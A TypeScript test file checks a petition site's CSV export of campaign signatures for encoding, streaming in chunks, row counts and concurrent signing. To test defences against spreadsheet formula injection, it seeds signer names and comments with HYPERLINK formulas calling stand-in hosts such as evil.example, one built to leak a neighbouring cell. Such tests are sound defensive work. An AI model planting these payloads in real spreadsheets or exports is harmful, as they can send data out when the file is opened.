import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { prepareDatabase, storedRows } from "@/test/database";
import { cellsReadBy, readers, runsAsFormula } from "@/test/spreadsheet";
import { exportHeader, signatureExport } from "./signature-export";
import { signCampaign } from "./signatures";

const slug = "white-helmets";

async function collect(chunks: AsyncGenerator<Uint8Array>, between?: () => Promise<void>) {
  const parts: Uint8Array[] = [];
  for await (const chunk of chunks) {
    parts.push(chunk);
    await between?.();
  }
  return parts;
}

beforeAll(async () => {
  await prepareDatabase();
  await signCampaign(slug, { fullName: "رائد الصالح", email: "raed@example.org", country: "SY", comment: "شكرا لكم", showName: "on" });
  await signCampaign(slug, {
    fullName: "=HYPERLINK(\"http://evil.example\")",
    email: "attacker@example.org",
    country: "GB",
    comment: '+SUM(1,2), said "they"\nthen left',
    wantsUpdates: true,
  });
  await signCampaign(slug, {
    fullName: 'Ann;=HYPERLINK("http://x.example/?"&C2)',
    email: "semicolon@example.org",
    country: "FR",
    comment: "merci\n=1+1;@SUM(A1)\t-2",
  });
  // More than one range of the export (2,500 rows on SQLite), so it arrives in several chunks.
  for (let i = 0; i < 3_000; i++) {
    await signCampaign(slug, { fullName: `Signer ${i}`, email: `signer${i}@example.org`, country: "DE" });
  }
});

describe("signatureExport", () => {
  it("streams every stored signature as CSV that Excel reads as UTF-8, in more than one chunk", async () => {
    const found = await signatureExport(slug, { actor: "organiser@example.org", now: new Date("2026-11-25T10:00:00Z") });
    expect(found?.filename).toBe("white-helmets-signatures-2026-11-25.csv");
    const parts = await collect(found!.chunks);
    expect(parts.length).toBeGreaterThan(2);

    const text = Buffer.concat(parts).toString("utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    const records = parse(text.slice(1), { relax_column_count: false }) as string[][];
    expect(records[0]).toEqual([...exportHeader]);

    const [{ n: stored }] = storedRows<{ n: number }>("select count(*) as n from signatures") as [{ n: number }];
    expect(records.length - 1).toBe(stored);

    const arabic = records.find((r) => r[2] === "raed@example.org")!;
    expect(arabic.slice(1, 8)).toEqual(["رائد الصالح", "raed@example.org", "Syria", "SY", "شكرا لكم", "yes", "no"]);
    expect(arabic[0]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);

    const hostile = records.find((r) => r[2] === "attacker@example.org")!;
    expect(hostile[1]).toBe("'=HYPERLINK(\"http://evil.example\")");
    expect(hostile[5]).toBe("'+SUM(1,2), said \"they\"\nthen left");
    expect(hostile[7]).toBe("yes");
  });

  it.each(readers)("holds no cell a spreadsheet would run as a formula, split on %j", async (reader) => {
    const found = await signatureExport(slug, { actor: "organiser@example.org" });
    const cells = cellsReadBy(reader, Buffer.concat(await collect(found!.chunks)).toString("utf8"));
    expect(cells.length).toBeGreaterThan(3_000);
    expect(cells.filter(runsAsFormula)).toEqual([]);
  });

  it("lets signing go on during an export", async () => {
    const found = await signatureExport(slug, { actor: "organiser@example.org" });
    let added = 0;
    await collect(found!.chunks, async () => {
      for (let i = 0; i < 400; i++) {
        const outcome = await signCampaign(slug, { fullName: "During Export", email: `during${added++}@example.org`, country: "FR" });
        expect(outcome.kind).toBe("signed");
      }
    });
    expect(added).toBeGreaterThanOrEqual(800);
    expect(storedRows<{ n: number }>("select count(*) as n from signatures where email like 'during%'")[0]!.n).toBe(added);
  });

  it("has nothing to export for a campaign that does not exist", async () => {
    expect(await signatureExport("no-such-campaign", { actor: "organiser@example.org" })).toBeUndefined();
  });
});
